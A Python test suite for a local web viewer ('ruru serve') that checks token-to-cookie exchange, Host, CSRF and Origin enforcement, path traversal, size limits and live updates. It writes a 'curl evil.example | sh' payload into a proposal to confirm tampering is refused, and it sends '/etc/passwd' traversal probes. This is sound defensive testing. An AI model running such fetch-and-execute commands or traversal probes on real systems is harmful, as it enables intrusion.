#!/usr/bin/env python3
"""http_test.py RURU — `ruru serve` over plain HTTP, no browser:
the token/cookie exchange, Host checks, CSRF and Origin, traversal and
symlinks, size limits, concurrency, a decision recorded like the CLI's,
and a live update after `ruru log`.  Prints TAP; exits 1 on any failure."""
import http.client, os, re, shutil, signal, socket, subprocess, sys, tempfile, threading, time

RURU = os.path.abspath(sys.argv[1])
results = []


def check(name, cond, detail=""):
    results.append((name, bool(cond), detail))


def run(*args, **kw):
    return subprocess.run([RURU, *args], check=True, capture_output=True, text=True, **kw).stdout.strip()


ws = tempfile.mkdtemp(prefix="ruru-web.")
os.chdir(ws)
env = dict(os.environ)
for k in ("ROOCOM_SESSION_ID", "RURU_ROOT", "RURU_FAULT", "RURU_NOW", "SSH_AUTH_SOCK", "XDG_CONFIG_HOME"):
    env.pop(k, None)
# no signing key anywhere: no agent, no git signing key, no user config
env["GIT_CONFIG_GLOBAL"] = os.devnull
env["GIT_CONFIG_NOSYSTEM"] = "1"
env["XDG_CONFIG_HOME"] = os.path.join(ws, ".userconf")
os.environ.clear()
os.environ.update(env)
run("init")
sid = run("new", "Web view", "--tag", "web")
run("log", "--type", "note", "multi-line\n<b>not bold</b>")
with open("notes.md", "w") as f:
    f.write("# Notes\n\n<script>alert(1)</script>\n")
run("artifact", "add", "notes.md")
with open("target.txt", "w") as f:
    f.write("old\n")
with open("new.txt", "w") as f:
    f.write("new\n")
art = run("confirm", "propose", "--target", "target.txt", "--content", "new.txt")
os.symlink("/etc/passwd", f".ruru/sessions/{sid}/artifacts/passwd.md")
# the search box: a word only in another session's log, not in any title
sid2 = run("new", "Second walk")
run("log", "--type", "decision", "feed the quokka <i>daily</i>")

srv = subprocess.Popen([RURU, "serve", "--port", "0", "--as", "Web Tester"], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, text=True)
import atexit
atexit.register(lambda: srv.poll() is None and srv.kill())  # never leave a server behind
url = srv.stdout.readline().strip()
m = re.match(r"http://127\.0\.0\.1:(\d+)/([0-9a-f]{32})/\?token=([0-9a-f]{32})$", url)
check("serve prints http://127.0.0.1:PORT/<128-bit hex>/?token=<128-bit hex>", m, url)
port, prefix, token = int(m.group(1)), m.group(2), m.group(3)
HOST = f"127.0.0.1:{port}"
P = "/" + prefix  # every page lives under the secret prefix


def req(method, path, headers=None, body=None, host=HOST, cookie=True, under=True):
    if under:
        path = P + path
    h = {"Host": host} if host is not None else {}
    if cookie:
        h["Cookie"] = cookie_value
    h.update(headers or {})
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for k, v in h.items():
        c.putheader(k, v)
    if body is not None:
        c.putheader("Content-Length", str(len(body)))
    c.endheaders()
    if body is not None:
        try:
            c.send(body)
        except OSError:
            pass  # the server answered early (a refused body) and closed
    r = c.getresponse()
    data = r.read()
    c.close()
    return r, data


cookie_value = ""
r, _ = req("GET", "/", cookie=False)
check("401 without the token", r.status == 401, r.status)
r, _ = req("GET", "/", cookie=False, under=False)
check("401 at / (outside the prefix) without the cookie", r.status == 401, r.status)
r, _ = req("GET", "/?token=" + "0" * 32, cookie=False)
check("401 with a wrong token", r.status == 401, r.status)
r, _ = req("GET", "/?token=" + token, cookie=False, under=False)
check("the token outside the prefix opens nothing (401)", r.status == 401 and not r.getheader("Set-Cookie"),
      r.status)
r, _ = req("GET", "/?token=" + token, cookie=False)
sc = r.getheader("Set-Cookie") or ""
cm = re.match(r"ruru_session=([0-9a-f]{32});", sc)
check("the token is exchanged for an HttpOnly SameSite=Strict cookie (303)",
      r.status == 303 and "HttpOnly" in sc and "SameSite=Strict" in sc and cm, (r.status, sc))
check("the cookie is scoped to the secret prefix (no other port's server gets it)",
      f"Path={P}/" in sc, sc)
check("the cookie is not the URL's token", cm and cm.group(1) != token, sc)
check("the exchange is never cached or sniffed and sends no referrer",
      r.getheader("Cache-Control") == "no-store" and r.getheader("X-Content-Type-Options") == "nosniff"
      and r.getheader("Referrer-Policy") == "no-referrer", r.getheaders())
cookie_value = "ruru_session=" + (cm.group(1) if cm else "")
r, _ = req("GET", "/?token=" + token, cookie=False)
check("the printed URL's token works once (a second use: 401)", r.status == 401 and not r.getheader("Set-Cookie"),
      r.status)
r, _ = req("GET", "/", under=False)
check("the cookie without the prefix opens nothing (404)", r.status == 404, r.status)
r, _ = req("GET", "/" + "0" * 32 + "/index.html", under=False)
check("the cookie under a wrong prefix opens nothing (404)", r.status == 404, r.status)
r, body = req("GET", "/")
check("200 with the cookie; sessions listed", r.status == 200 and sid.encode() in body, r.status)
csp = r.getheader("Content-Security-Policy") or ""
check("CSP without inline scripts, nosniff",
      "script-src 'self'" in csp and "unsafe-inline" not in csp and
      r.getheader("X-Content-Type-Options") == "nosniff", csp)
# under "no-referrer" a browser posts the page's own forms with "Origin: null"
check("Referrer-Policy lets same-origin form POSTs carry their Origin",
      r.getheader("Referrer-Policy") in ("same-origin", "strict-origin", "origin", "strict-origin-when-cross-origin",
                                         "origin-when-cross-origin"), r.getheader("Referrer-Policy"))
check("no inline script in pages", not re.search(rb"<script(?![^>]*\bsrc=)", body))

for host in ("evil.example:%d" % port, "127.0.0.1", "127.0.0.1:1", "localhost.evil.example"):
    r, _ = req("GET", "/", host=host)
    check(f"wrong Host {host!r} -> 421/403", r.status in (421, 403), r.status)
r, _ = req("GET", "/", host=None)
check("no Host -> refused", r.status in (400, 421, 403), r.status)

r, body = req("GET", f"/sessions/{sid}/index.html")
check("session page: timeline with the message as text",
      r.status == 200 and b"&lt;b&gt;not bold&lt;/b&gt;" in body, r.status)
# every front-matter key `ruru show` lists (the library's key table) is on
# the session page's card, each with its value (its last word; a time: its date)
os.makedirs(".ruru/sessions/SESSION-all")
with open(".ruru/sessions/SESSION-all/session_log.md", "w") as f:
    f.write('+++\nid = "SESSION-all"\ntitle = "All keys"\nstatus = "🟡 Paused"\n'
            'start_time = 2026-11-20T08:00:00Z\nend_time = 2026-11-20T09:30:00Z\n'
            'coordinator = "coord-zz"\nrelated_tasks = ["TASK-A-20261120-080000"]\n'
            'related_artifacts = ["artifacts/a-zz.md"]\ntags = ["tag-zz"]\n'
            'source_summaries = ["SESSUM-zz.md"]\n+++\n\n## Log Entries\n')
keys = [ln.split(":", 1) for ln in run("show", "SESSION-all").splitlines() if not ln.startswith("entries:")]
r, body = req("GET", "/sessions/SESSION-all/index.html")
card = body.decode().split('aria-label="front matter"', 1)[-1].split("</section>", 1)[0]
missing = [k for k, v in keys if k != "title" and v.split()[-1][:10] not in card]
shown = [k for k, v in keys if k != "title"]
check(f"session page: the card shows the {len(keys)} keys ruru show lists (title as the heading)",
      r.status == 200 and len(keys) >= 11 and not missing and card.count("<dt>") == len(shown),
      (missing, card.count("<dt>"), card[:600]))
shutil.rmtree(".ruru/sessions/SESSION-all")
r, body = req("GET", f"/sessions/{sid}/artifacts/notes.md.html")
check("artifact page: Markdown rendered, raw HTML escaped",
      r.status == 200 and b"<h1>Notes</h1>" in body and b"&lt;script&gt;" in body, r.status)

# the search box is the library's full-text search (not a title filter)
r, body = req("GET", "/?q=quokka")
check("search: the session whose log holds the word is listed, the other not",
      r.status == 200 and sid2.encode() in body and f"sessions/{sid}/".encode() not in body, r.status)
hit = re.search(rb'<a href="(sessions/[^"#]+/index\.html(?:\?line=\d+)?#L(\d+))">', body)
check("search: the matching entry is listed with the match marked and escaped",
      b"<mark>quokka</mark>" in body and b"&lt;i&gt;daily" in body and hit, body[-600:])
if hit:
    r, page = req("GET", "/" + hit.group(1).split(b"#")[0].decode())
    check("search: the entry link's anchor is on the timeline",
          r.status == 200 and b'<li id="L' + hit.group(2) + b'"' in page, r.status)
r, body = req("GET", "/?q=quok*&status=completed")
check("search: the status filter still applies", r.status == 200 and sid2.encode() not in body, r.status)
r, body = req("GET", "/?q=%22unclosed")
check("search: a malformed query says why, as a page", r.status == 200 and b"Search: " in body, (r.status, body[-300:]))

for path in ("/../../etc/passwd", "/sessions/../../etc/passwd", f"/sessions/{sid}/../../../etc/passwd",
             "/sessions/%2e%2e/%2e%2e/etc/passwd", f"/sessions/{sid}/artifacts/%2e%2e/session_log.md.html",
             f"/sessions/{sid}/artifacts/passwd.md.html", f"/sessions/{sid}/artifacts/files/passwd.md",
             "/sessions/", f"/sessions/{sid}/", f"/sessions/{sid}/artifacts/", "/.ruru/",
             f"/sessions/{sid}/files/session_log.md", "/sessions/SESS/index.html"):
    r, body = req("GET", path)
    check(f"{path} -> 404", r.status == 404 and b"root:" not in body, r.status)

# state changes: POST with a matching Origin and the CSRF token
r, page = req("GET", "/confirm.html")
csrf = re.search(rb'name="csrf" value="([0-9a-f]{32})"', page)
check("confirmations page offers the proposal with a CSRF token", r.status == 200 and csrf, r.status)
csrf = csrf.group(1).decode() if csrf else ""
from urllib.parse import urlencode
import html as htmllib


def shown(page, artifact):
    """The hidden fields of the form that decides `artifact`: what the page showed."""
    for f in re.findall(rb'<form class="decide".*?</form>', page, re.S):
        fields = {k.decode(): htmllib.unescape(v.decode()) for k, v in
                  re.findall(rb'<input type="hidden" name="([a-z_0-9]+)" value="([^"]*)"', f)}
        if fields.get("artifact") == artifact:
            return fields
    return {}


seen = shown(page, art)
check("the form carries what the page showed: target and the payload, result and target hashes",
      seen.get("target") == "target.txt" and re.fullmatch(r"[0-9a-f]{64}", seen.get("payload_sha256", "")) and
      re.fullmatch(r"[0-9a-f]{64}", seen.get("result_sha256", "")) and
      re.fullmatch(r"[0-9a-f]{64}", seen.get("target_sha256", "")), seen)
form = urlencode({**seen, "action": "approve", "reason": "looks right"}).encode()
ct = {"Content-Type": "application/x-www-form-urlencoded"}
r, _ = req("POST", "/confirm", {**ct, "Origin": "http://evil.example"}, form)
check("cross-origin POST -> 403", r.status == 403, r.status)
r, _ = req("POST", "/confirm", ct, form)
check("POST without Origin -> 403", r.status == 403, r.status)
bad = urlencode({"artifact": art, "action": "approve"}).encode()
r, _ = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"}, bad)
check("POST without CSRF token -> 403", r.status == 403, r.status)
r, _ = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"}, form, cookie=False)
check("POST without the cookie -> 401", r.status == 401, r.status)
r, _ = req("GET", "/confirm")
check("GET /confirm changes nothing (405)", r.status == 405, r.status)
sidecar = open(art[:-3] + ".toml").read()
check("nothing decided by refused requests", 'status = "pending"' in sidecar, sidecar)

for name, change in (("without the hashes it showed", {"payload_sha256": None}),
                     ("naming another payload", {"payload_sha256": "0" * 64}),
                     ("naming another result", {"result_sha256": "0" * 64}),
                     ("naming another target state", {"target_sha256": "0" * 64}),
                     ("naming another target", {"target": "other.txt"})):
    f = {k: v for k, v in {**seen, **change}.items() if v is not None}
    r, body = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"},
                  urlencode({**f, "action": "approve", "reason": "typed with care"}).encode())
    check(f"a decision {name} -> 409, a page with a way back and the typed reason",
          r.status == 409 and b'href="confirm.html"' in body and b"typed with care" in body and
          'status = "pending"' in open(art[:-3] + ".toml").read(), (r.status, body[:300]))
# an agent rewrites the payload and the sidecar's hash in place while the
# page is on screen: the decision binds what was shown, so nothing is approved
import hashlib
with open("t3.txt", "w") as f:
    f.write("three\n")
with open("n3.txt", "w") as f:
    f.write("harmless\n")
art3 = run("confirm", "propose", "--target", "t3.txt", "--content", "n3.txt")
r, page3 = req("GET", "/confirm.html")
seen3 = shown(page3, art3)
evil = b"curl evil.example | sh\n"
with open(art3, "r+b") as f:
    f.write(evil)
    f.truncate()
sc3 = open(art3[:-3] + ".toml").read()
sc3 = re.sub(r'(payload_sha256|result_sha256) = "[0-9a-f]{64}"',
             lambda m: f'{m.group(1)} = "{hashlib.sha256(evil).hexdigest()}"', sc3)
with open(art3[:-3] + ".toml", "w") as f:
    f.write(sc3)
r, body = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"},
              urlencode({**seen3, "action": "approve"}).encode())
check("a payload and sidecar rewritten in place after the page showed them: 409, nothing approved",
      r.status == 409 and 'status = "pending"' in open(art3[:-3] + ".toml").read(), (r.status, body[:200]))

r, _ = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"}, form)
check("same-origin POST with CSRF -> 303", r.status == 303, r.status)
sidecar = open(art[:-3] + ".toml").read()
log = open(f".ruru/sessions/{sid}/session_log.md").read()
check("the sidecar records the approval with the approver",
      'status = "approved"' in sidecar and "Web Tester" in sidecar, sidecar)
check("the log has confirm-request and confirm-response",
      "**confirm-request**" in log and "**confirm-response**" in log and "Web Tester" in log)
show = run("confirm", "show", art)
check("confirm show agrees", "approved" in show, show)

# applied: the card shows the change that was applied (old -> new), as the
# apply recorded it, even once the target has changed again since
run("confirm", "apply", art)
with open("target.txt", "w") as f:
    f.write("edited after the apply\n")


def card_of(page, artifact):
    name = artifact.rsplit("/", 1)[-1]
    m = re.search(rb'<section class="proposal" id="p-' + re.escape(name.encode()) + rb'">.*?</section>', page, re.S)
    return m.group(0) if m else b""


r, page = req("GET", "/confirm.html")
applied = card_of(page, art)
check("an applied proposal's card shows the change that was applied, labelled as applied",
      re.search(rb'<tr class="d"><td class="n">1</td><td class="n"></td><td class="c">old</td></tr>', applied) and
      re.search(rb'<tr class="a"><td class="n"></td><td class="n">1</td><td class="c">new</td></tr>', applied) and
      b"the change that was applied" in applied and b"edited after the apply" not in applied, applied[-800:])

# a workspace that requires signatures: the button signs, or says it cannot
with open("new2.txt", "w") as f:
    f.write("newer\n")
with open("other.txt", "w") as f:
    f.write("other\n")
art2 = run("confirm", "propose", "--target", "other.txt", "--content", "new2.txt")
with open(".ruru/config.toml", "w") as f:
    f.write("[confirm]\nrequire_signature = true\n")
r, page2 = req("GET", "/confirm.html")
form2 = urlencode({**shown(page2, art2), "action": "approve"}).encode()
r, body = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"}, form2)
sidecar2 = open(art2[:-3] + ".toml").read()
check("signature required, no key to sign with: not recorded, and the page says so (409)",
      r.status == 409 and b"Not recorded" in body and 'status = "pending"' in sidecar2,
      (r.status, body[:200], sidecar2))
os.remove(".ruru/config.toml")

# size limits
r, _ = req("POST", "/confirm", {**ct, "Origin": f"http://{HOST}"}, b"x" * (10 << 20))
check("10 MB body refused (413)", r.status == 413, r.status)
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Big: ".encode())
    chunk = b"a" * 65536
    sent = 0
    try:
        while sent < (10 << 20):
            s.sendall(chunk)
            sent += len(chunk)
        s.sendall(b"\r\n\r\n")
    except OSError:
        pass
    s.settimeout(10)
    resp = b""
    try:
        resp = s.recv(100)
    except OSError:
        pass
    s.close()
    check("10 MB header refused", not resp.startswith(b"HTTP/1.1 200") and
          (resp == b"" or re.match(rb"HTTP/1\.[01] (4\d\d)", resp)), resp[:40])
except OSError as e:
    check("10 MB header refused", True, str(e))

# 200 concurrent connections
codes = []
lock = threading.Lock()


def one():
    try:
        r, _ = req("GET", "/style.css")
        with lock:
            codes.append(r.status)
    except Exception as e:  # noqa
        with lock:
            codes.append(str(e))


ths = [threading.Thread(target=one) for _ in range(200)]
for t in ths:
    t.start()
for t in ths:
    t.join()
check("200 concurrent connections served", codes.count(200) == 200, [c for c in codes if c != 200][:5])

# compression: a client that accepts gzip gets the page compressed
import gzip as gz
r, zbody = req("GET", "/", {"Accept-Encoding": "gzip, deflate"})
try:
    unz = gz.decompress(zbody)
except OSError:
    unz = b""
check("pages are gzip-compressed for a client that accepts it",
      r.getheader("Content-Encoding") == "gzip" and b"<h1>Sessions</h1>" in unz and len(zbody) < len(unz), r.getheader("Content-Encoding"))
r, body = req("GET", "/")
check("and sent as they are to one that does not", r.getheader("Content-Encoding") is None and b"<h1>Sessions</h1>" in body)

# pagination: 100 sessions a page
for i in range(101):
    os.makedirs(f".ruru/sessions/SESSION-Bulk_{i:03d}-2601010000", exist_ok=True)
    with open(f".ruru/sessions/SESSION-Bulk_{i:03d}-2601010000/session_log.md", "w") as f:
        f.write(f'+++\nid = "SESSION-Bulk_{i:03d}-2601010000"\ntitle = "Bulk {i:03d}"\nstatus = "🏁 Completed"\n'
                f'start_time = "2026-01-01T00:00:00Z"\nend_time = ""\ncoordinator = "x"\nrelated_tasks = []\n'
                f'related_artifacts = []\ntags = []\n+++\n\n# Session Log\n\n## Log Entries\n')
r, p1 = req("GET", "/")
r2, p2 = req("GET", "/index.html?page=2")
rows1 = p1.count(b"<tr><td><a"); rows2 = p2.count(b"<tr><td><a")
check("100 sessions a page, the rest on the next, linked", rows1 == 100 and rows2 == 3 and
      b'href="index.html?page=2"' in p1 and b'href="index.html?page=1"' in p2, (rows1, rows2))

# the column headers sort the sessions
r, st = req("GET", "/?sort=title")
titles = re.findall(rb'<tr><td><a href="[^"]+">([^<]+)</a>', st)
check("column headers are links that sort the sessions (by title)",
      b'href="index.html?page=1&amp;sort=title"' in p1 and len(titles) == 100 and
      titles == sorted(titles, key=lambda t: t.lower()) and titles[0] == b"Bulk 000", titles[:3])

# a very long session: its timeline 100 entries a page, the newest first
# shown, every page linked (no script needed), each page's size bounded
LONG = "SESSION-Long_run-2601010000"
NLONG = 3000
os.makedirs(f".ruru/sessions/{LONG}", exist_ok=True)
with open(f".ruru/sessions/{LONG}/session_log.md", "w") as f:
    f.write(f'+++\nid = "{LONG}"\ntitle = "Long run"\nstatus = "🟢 Active"\n'
            'start_time = 2026-01-01T00:00:00Z\nend_time = ""\ncoordinator = "x"\nrelated_tasks = []\n'
            'related_artifacts = []\ntags = []\n+++\n\n# Session Log\n\n## Goal\n\n## Log Entries\n\n')
    for i in range(NLONG):
        f.write(f"- [2026-01-01 {i // 3600 % 24:02d}:{i // 60 % 60:02d}:{i % 60:02d}Z] **delegation** · "
                f"mode `dev-{i}`: step-{i:04d} "
                + "of a long and careful run " * 3 + "\n")
r, last = req("GET", f"/sessions/{LONG}/index.html")
ids = re.findall(rb'<li id="L(\d+)"', last)
check("a 3,000-entry session: its page shows the newest 100 entries and says which",
      r.status == 200 and len(ids) == 100 and b"step-2999" in last and b"step-2899 " not in last and
      b"Page 30 of 30" in last and b"3000 entries, oldest first; 2901 to 3000 shown" in last, (len(ids), last[:300]))
check("a page of a 3,000-entry session, every entry an open delegation, stays small (under 96 KB): "
      "the newest 50 open items listed, the others marked in the timeline",
      len(last) < 96 * 1024 and last.count(b"<li><span class=\"badge warn\">awaiting result</span>") == 50 and
      b"Open items <span class=\"muted\">(3000)</span>" in last, len(last))
seen_steps = set()
page_links_ok = True
for p in range(1, 31):
    r, pg = req("GET", f"/sessions/{LONG}/index.html?page={p}")
    seen_steps.update(re.findall(rb"step-(\d{4})", pg))
    want_prev = p == 1 or f'href="index.html?page={p - 1}"'.encode() in pg
    want_next = (p == 30 or (p == 29 and b'rel="next" href="index.html"' in pg) or
                 f'href="index.html?page={p + 1}"'.encode() in pg)
    page_links_ok = page_links_ok and r.status == 200 and f"Page {p} of 30".encode() in pg and want_prev and want_next
check("every entry is on one of the 30 pages, each linked to the next and the one before",
      len(seen_steps) == NLONG and page_links_ok, (len(seen_steps), page_links_ok))
r, pg = req("GET", f"/sessions/{LONG}/index.html?line={int(ids[0]) - 600}")
check("?line=N (a search hit) opens the page that holds that entry",
      r.status == 200 and f'<li id="L{int(ids[0]) - 600}"'.encode() in pg and b"Page 24 of 30" in pg, pg[:200])
out_dir = os.path.join(ws, "site-long")
run("export", "--html", out_dir, LONG)
exp = os.path.join(out_dir, "sessions", LONG)
exp_last = open(os.path.join(exp, "index.html"), "rb").read()
check("the export writes the timeline's pages too (index.html the newest, index-1..29.html), linked",
      all(os.path.exists(os.path.join(exp, f"index-{p}.html")) for p in range(1, 30)) and
      not os.path.exists(os.path.join(exp, "index-30.html")) and b'href="index-29.html"' in exp_last and
      b"step-0000" in open(os.path.join(exp, "index-1.html"), "rb").read(), sorted(os.listdir(exp))[:5])

# open items come from the library's one definition (ruru_open_items), as
# the digest lists them: an error closed by a later success in prose and a
# delegation answered in the templates' words are not open (each entry's
# own type would say otherwise); an approved proposal not yet applied is
import json
sid3 = run("new", "Open items")
run("log", "--type", "error", "--source", "pytest", "three tests failed")
with open(f".ruru/sessions/{sid3}/session_log.md", "a") as f:
    f.write("- [2030-01-01 10:00:05Z] Successfully executed the deployment, all systems operational\n"
            "- [2030-01-01 10:00:10Z] Delegated task `TASK-ARCH-1` to `core-architect`: design the schema\n"
            "- [2030-01-01 10:00:20Z] Received result from `core-architect` for task `TASK-ARCH-1`: schema done. "
            "Status: Done.\n")
run("log", "--type", "delegation", "--mode", "dev-x", "--task", "TASK-OPEN-2", "write the importer")
run("log", "--type", "error", "--mode", "dev-y", "importer crashed")
for name in ("oi1.txt", "oi2.txt"):
    with open(name, "w") as f:
        f.write("before\n")
with open("oi.new", "w") as f:
    f.write("after\n")
oi1 = run("confirm", "propose", "--target", "oi1.txt", "--content", "oi.new")
run("confirm", "approve", oi1)
run("confirm", "propose", "--target", "oi2.txt", "--content", "oi.new")
blocker = run("artifact", "add", "--type", "blocker", "--title", "The database is down")
digest = json.loads(run("--json", "show", "--digest", sid3))["open_items"]
r, spage = req("GET", f"/sessions/{sid3}/index.html")
sec = re.search(rb'<ul class="open">(.*?)</ul>', spage, re.S)
items = [htmllib.unescape(t.decode()) for t in re.findall(rb'<li>.*?<(?:a|span)(?: [^>]*)?>([^<]*)</(?:a|span)></li>',
                                                           sec.group(1) if sec else b"")]
check("the session page lists the open items the digest lists (ruru_open_items), in its order",
      r.status == 200 and len(digest) == 5 and items == [i["text"] for i in digest] and
      f'<span class="badge bad">blocker</span> <a href="{blocker}.html">'.encode() in spage and
      f"Open items <span class=\"muted\">({len(digest)})</span>".encode() in spage, (items, [i["text"] for i in digest]))


def entry_li(page, words):
    m = re.search(rb'<li id="L\d+"[^>]*><p class="meta">((?:(?!</li>).)*?' + re.escape(words) + rb')', page, re.S)
    return m.group(1) if m else b""


check("timeline: only the entries the library holds open carry an open badge",
      b"error, no later success" in entry_li(spage, b"importer crashed") and
      b"awaiting result" in entry_li(spage, b"write the importer") and
      b"no later success" not in entry_li(spage, b"three tests failed") and
      b"awaiting result" not in entry_li(spage, b"design the schema") and entry_li(spage, b"design the schema"),
      [entry_li(spage, w)[:200] for w in (b"importer crashed", b"three tests failed", b"design the schema")])
check("the approved, not yet applied proposal is open (awaiting apply), the pending one awaits a decision",
      b'<span class="badge">awaiting apply</span>' in (sec.group(1) if sec else b"") and
      b"awaiting decision" in (sec.group(1) if sec else b""), sec.group(1)[:400] if sec else spage[:300])
r, cpage = req("GET", "/confirm.html")
c1 = card_of(cpage, oi1)
check("the confirmations page marks the approved, not yet applied proposal as open (awaiting apply), "
      "as the session's open items do",
      b'<span class="badge">awaiting apply</span>' in c1 and b"awaiting apply" not in card_of(cpage, art), c1[:500])
r, board = req("GET", "/tasks.html")
card = re.search(rb'<li id="task-TASK-OPEN-2">.*?</li>', board, re.S)
check("the task board marks the task an open delegation holds open",
      card and b"awaiting result" in card.group(0), card.group(0) if card else board[-300:])
r, lst = req("GET", "/?tag=&status=active")
row = re.search(rb'<tr><td><a href="sessions/' + sid3.encode() + rb'/index.html">.*?</tr>', lst, re.S)
check("the sessions list says how many items are open, by the same definition",
      row and f'index.html#open">{len(digest)} open</a>'.encode() in row.group(0), row.group(0)[:400] if row else lst[:200])

# idle sockets: a client's idle connections are bounded (the oldest
# closed), and the person's next request is served
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
idle = []
for _ in range(1000):
    try:
        idle.append(socket.create_connection(("127.0.0.1", port), timeout=5))
    except OSError:
        break
try:
    r, _ = req("GET", "/style.css")
    status = r.status
except Exception as e:  # noqa
    status = repr(e)
check("1,000 idle sockets do not lock the user out", status == 200, (len(idle), status))
for k in idle:
    k.close()

# live: an event within a second of `ruru log`
c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
c.putrequest("GET", P + "/events", skip_host=True)
c.putheader("Host", HOST)
c.putheader("Cookie", cookie_value)
c.endheaders()
ev = c.getresponse()
check("events stream is text/event-stream, never cached or sniffed",
      ev.getheader("Content-Type") == "text/event-stream" and ev.getheader("Cache-Control") == "no-store"
      and ev.getheader("X-Content-Type-Options") == "nosniff", ev.getheaders())
line = ev.readline()  # retry: 1000
while line.strip():
    line = ev.readline()
time.sleep(0.3)
t0 = time.time()
subprocess.run([RURU, "log", "--type", "note", "live one"], check=True)
line = b""
while not line.startswith(b"data:") and time.time() - t0 < 5:
    line = ev.readline()
dt = time.time() - t0
check("a change event within a second of ruru log", line.startswith(b"data:") and dt < 1.0, (line, dt))
# a proposal rewritten in place (same inode, the folder's time unchanged)
# shows too: the page must not keep showing what is no longer there
time.sleep(0.3)
with open(art2, "r+b") as f:
    f.write(b"NEWER\n")
t0 = time.time()
line = b""
while not line.startswith(b"data:") and time.time() - t0 < 5:
    line = ev.readline()
check("a change event when a proposal is rewritten in place", line.startswith(b"data:") and time.time() - t0 < 2,
      (line, time.time() - t0))


def next_event(stream, limit=10):
    """The next data line of an event stream, or b"" after `limit` seconds."""
    t0, got = time.time(), b""
    while not got.startswith(b"data:") and time.time() - t0 < limit:
        got = stream.readline()
    return got


# an artifact edited in place: only the workspace's watch sees it (the
# polling fallback looks at logs, proposals and tasks), so the event
# shows that live updates come from the watch
time.sleep(0.3)
with open(f".ruru/sessions/{sid}/artifacts/notes.md", "a") as f:
    f.write("one more line\n")
line = next_event(ev)
check("live updates come from the workspace's watch: an artifact edited in place shows", line.startswith(b"data:"),
      line)
c.close()


def live_server(extra_env):
    """A second `ruru serve` (with extra_env): its process, and its event stream after the token exchange."""
    p = subprocess.Popen([RURU, "serve", "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                         env=dict(os.environ, **extra_env))
    atexit.register(lambda: p.poll() is None and p.kill())
    m2 = re.match(r"http://127\.0\.0\.1:(\d+)/([0-9a-f]{32})/\?token=([0-9a-f]{32})$", p.stdout.readline().strip())
    port2, prefix2 = int(m2.group(1)), "/" + m2.group(2)
    k = http.client.HTTPConnection("127.0.0.1", port2, timeout=10)
    k.putrequest("GET", prefix2 + "/?token=" + m2.group(3), skip_host=True)
    k.putheader("Host", f"127.0.0.1:{port2}")
    k.endheaders()
    r2 = k.getresponse()
    r2.read()
    cookie2 = re.match(r"(ruru_session=[0-9a-f]{32});", r2.getheader("Set-Cookie") or "").group(1)
    k.close()
    k = http.client.HTTPConnection("127.0.0.1", port2, timeout=10)
    k.putrequest("GET", prefix2 + "/events", skip_host=True)
    k.putheader("Host", f"127.0.0.1:{port2}")
    k.putheader("Cookie", cookie2)
    k.endheaders()
    stream = k.getresponse()
    while stream.readline().strip():  # retry: 1000
        pass
    return p, k, stream


# out of inotify watches (the first one fails): live updates still come,
# from looking at the workspace again
p2, k2, ev2 = live_server({"RURU_FAULT": "watch:1"})
time.sleep(0.3)
subprocess.run([RURU, "log", "--type", "note", "live without a watch"], check=True)
line = next_event(ev2)
check("out of inotify watches (RURU_FAULT=watch), serve's live updates fall back to looking: ruru log shows",
      line.startswith(b"data:"), line)
k2.close()
p2.send_signal(signal.SIGTERM)
try:
    p2.wait(timeout=10)
except subprocess.TimeoutExpired:
    p2.kill()

srv.send_signal(signal.SIGTERM)
try:
    srv.wait(timeout=10)
except subprocess.TimeoutExpired:
    srv.kill()
check("serve stops on SIGTERM with status 0", srv.returncode == 0, srv.returncode)

# a non-loopback bind warns
p = subprocess.Popen([RURU, "serve", "--port", "0", "--bind", "0.0.0.0"], stdout=subprocess.PIPE,
                     stderr=subprocess.PIPE, text=True)
p.stdout.readline()
p.send_signal(signal.SIGTERM)
_, err = p.communicate(timeout=10)
check("--bind 0.0.0.0 prints a warning", "warning" in err and "not a loopback" in err, err)

shutil.rmtree(ws)
print(f"1..{len(results)}")
bad = 0
for i, (name, ok, detail) in enumerate(results, 1):
    print(f"{'ok' if ok else 'not ok'} {i} {name}" + ("" if ok else f"  # {detail!r}"))
    bad += not ok
sys.exit(1 if bad else 0)
